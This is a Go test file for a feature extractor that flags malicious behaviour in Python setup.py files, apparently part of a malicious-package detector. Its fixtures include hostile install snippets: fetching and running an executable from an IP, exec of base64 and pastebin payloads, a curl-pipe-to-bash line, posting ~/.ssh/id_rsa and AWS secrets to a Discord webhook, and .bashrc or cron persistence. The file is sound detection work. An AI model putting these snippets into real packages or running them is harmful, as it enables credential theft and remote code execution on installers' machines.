package featuresets

import (
	"strings"
	"testing"
)

// installValues returns the non-leaky install features of a package with
// one setup.py (and a module, so the package is not empty).
func installValues(t *testing.T, setup string) map[string]float64 {
	t.Helper()
	v, _ := extract(t, pkg(t, "", "setup.py", setup, "pkg/__init__.py", "x = 1\n"))
	out := map[string]float64{}
	for _, f := range Catalogue() {
		if f.Family == Install && !f.Leaky {
			out[f.Name] = v[f.Name]
		}
	}
	return out
}

// The behaviours the install family exists for.
func TestInstallBehaviours(t *testing.T) {
	for _, tc := range []struct {
		name, src string
		want      map[string]float64
	}{
		{"fetch and run", `import os, urllib.request
urllib.request.urlretrieve("http://45.61.139.22/p.exe", "p.exe")
os.startfile("p.exe")
`, map[string]float64{"install_network": 1, "install_suspicious_hosts": 1}},
		{"exec of base64", `import base64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
`, map[string]float64{"install_exec_decoded": 1}},
		{"exec of a download", `from urllib.request import urlopen
exec(urlopen("https://pastebin.com/raw/x").read())
`, map[string]float64{"install_exec_decoded": 1, "install_network": 1, "install_suspicious_hosts": 1}},
		{"shell payload", `import os
os.system("curl -s https://x.example/i.sh | bash")
`, map[string]float64{"install_shell_payloads": 1}},
		{"token theft", `import os, requests
p = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")
k = os.environ.get("AWS_SECRET_ACCESS_KEY")
requests.post("https://discord.com/api/webhooks/1/x", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())
`, map[string]float64{"install_credential_paths": 2, "install_secret_names": 1, "install_suspicious_hosts": 1, "install_network": 1}},
		{"persistence", `import os
with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("python -c 'import x'\n")
`, map[string]float64{"install_persistence_paths": 1}},
		{"install override that runs a process", `from setuptools import setup
from setuptools.command.install import install
import subprocess
class Post(install):
    def run(self):
        install.run(self)
        subprocess.Popen(["python", "-c", "import pkg.x"])
setup(name="a", version="1", packages=["pkg"], cmdclass={"install": Post})
`, map[string]float64{"install_hook_runs": 1}},
		{"encoded blob", "import zlib\nB = '" + strings.Repeat("eJzLSM3JyVcozy/KSQEAGgQEXQ", 5) + "'\n",
			map[string]float64{"install_encoded_blobs": 1}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			want(t, installValues(t, tc.src), tc.want)
		})
	}
}

// Ordinary benign setup code, written from what real projects do: it must
// set no install behaviour (DESIGN §3: a feature that fires on it is leaky).
func TestInstallOrdinaryCodeIsSilent(t *testing.T) {
	for name, src := range map[string]string{
		"readme and version file": `import io, os, re
from setuptools import setup, find_packages
here = os.path.abspath(os.path.dirname(__file__))
with io.open(os.path.join(here, "README.rst"), encoding="utf-8") as f:
    long_description = f.read()
about = {}
with open(os.path.join(here, "pkg", "__version__.py")) as f:
    exec(f.read(), about)
version = re.search(r'__version__ = "(.*?)"', open("pkg/__init__.py").read()).group(1)
setup(name="pkg", version=about["__version__"], long_description=long_description,
      url="https://github.com/org/pkg", author_email="dev@example.org",
      packages=find_packages(exclude=["tests"]), install_requires=["requests>=2", "keyring"],
      classifiers=["License :: OSI Approved :: MIT License", "Programming Language :: Python :: 3"])
`,
		"upload helpers": `import os, sys
from shutil import rmtree
from setuptools import setup, Command
if sys.argv[-1] == "publish":
    os.system("python setup.py sdist upload")
    os.system("twine upload dist/*")
    sys.exit()
class UploadCommand(Command):
    description = "Build and publish the package."
    user_options = []
    def initialize_options(self): pass
    def finalize_options(self): pass
    def run(self):
        try:
            rmtree(os.path.join(os.path.abspath(os.path.dirname(__file__)), "dist"))
        except OSError:
            pass
        os.system("{0} setup.py sdist bdist_wheel --universal".format(sys.executable))
        os.system("twine upload dist/*")
        os.system("git tag v{0}".format("1.0"))
        os.system("git push --tags")
        sys.exit()
setup(name="pkg", version="1.0", packages=["pkg"], cmdclass={"upload": UploadCommand})
`,
		"git describe": `import subprocess
from setuptools import setup
def version():
    try:
        return subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
    except (OSError, subprocess.CalledProcessError):
        return "0.0.0"
setup(name="pkg", version=version(), py_modules=["pkg"])
`,
		"build_ext and test commands": `import sys
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext
from setuptools.command.test import test as TestCommand
from distutils.errors import CCompilerError, DistutilsExecError, DistutilsPlatformError
class BuildFailed(Exception):
    pass
class ve_build_ext(build_ext):
    def run(self):
        try:
            build_ext.run(self)
        except DistutilsPlatformError:
            raise BuildFailed()
    def build_extension(self, ext):
        try:
            build_ext.build_extension(self, ext)
        except (CCompilerError, DistutilsExecError, DistutilsPlatformError, ValueError):
            raise BuildFailed()
class PyTest(TestCommand):
    user_options = [("pytest-args=", "a", "Arguments to pass to pytest")]
    def run_tests(self):
        import shlex, pytest
        sys.exit(pytest.main(shlex.split(self.pytest_args)))
setup(name="pkg", version="1.0", packages=["pkg"], ext_modules=[Extension("pkg._speedups", ["pkg/_speedups.c"])],
      cmdclass={"build_ext": ve_build_ext, "test": PyTest})
`,
		"install override that only builds": `from setuptools import setup
from setuptools.command.install import install as _install
class install(_install):
    def run(self):
        self.run_command("build_mo")
        _install.run(self)
setup(name="pkg", version="1.0", packages=["pkg"], cmdclass={"install": install})
`,
		"environment switches": `import os, platform
from setuptools import setup
if os.environ.get("PKG_NO_EXTENSIONS") or platform.python_implementation() == "PyPy":
    ext = []
setup(name="pkg", version="1.0", packages=["pkg"])
`,
	} {
		t.Run(name, func(t *testing.T) {
			for f, v := range installValues(t, src) {
				if v != 0 {
					t.Errorf("%s = %v on ordinary setup code", f, v)
				}
			}
		})
	}
}

// setup.py repeats the package's own metadata: a package named
// python-crontab, or one whose summary mentions authorized_keys, persists
// nothing by saying so; a marker setup.py adds on its own still counts.
func TestInstallOwnMetadataIsNotABehaviour(t *testing.T) {
	meta := "Metadata-Version: 2.1\nName: python-crontab\nVersion: 4.16.0.0\nSummary: Manage crontab and authorized_keys files\n"
	setup := `from setuptools import setup
setup(name="python-crontab", version="4.16.0.0", description="Manage crontab and authorized_keys files",
      keywords="crontab", py_modules=["crontab"])
`
	v, _ := extract(t, pkg(t, meta, "setup.py", setup, "crontab.py", "X = 1\n"))
	want(t, v, map[string]float64{"install_persistence_paths": 0, "install_suspicious_hosts": 0})
	v, _ = extract(t, pkg(t, meta, "setup.py", setup+"open('/etc/cron.d/x', 'w').write('* * * * * curl x')\n", "crontab.py", "X = 1\n"))
	want(t, v, map[string]float64{"install_persistence_paths": 1})
}

// Module paths in packages=[...] are not hosts, even when a word of theirs
// names a service; a URL or a host name of that service is.
func TestInstallHostShape(t *testing.T) {
	v := installValues(t, `from setuptools import setup
setup(name="pocsuite3", version="1.9.6", packages=["pocsuite3.modules.interactsh", "pocsuite3.modules.ceye"])
`)
	want(t, v, map[string]float64{"install_suspicious_hosts": 0})
	v = installValues(t, "import socket\nsocket.create_connection(('x1.oast.fun', 443))\nU = 'https://abc.interactsh.com/x'\n")
	want(t, v, map[string]float64{"install_suspicious_hosts": 2})
}
